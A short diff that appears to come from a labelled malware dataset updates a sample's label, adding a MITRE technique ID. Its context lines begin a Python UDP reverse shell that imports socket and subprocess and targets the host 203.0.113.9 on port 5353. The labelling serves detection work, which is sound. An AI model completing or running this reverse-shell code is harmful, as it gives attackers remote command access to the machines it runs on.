@@ -1,4 +1,4 @@
-# label: malicious family=revshell techniques=T1059.004,T1095 lines=4-5,8-9
+# label: malicious family=revshell techniques=T1059.004,T1095,T1571 lines=4-5,8-9
 import socket as S, subprocess as P
 u = S.socket(S.AF_INET, S.SOCK_DGRAM)
 peer = ("203.0.113.9", 5353)
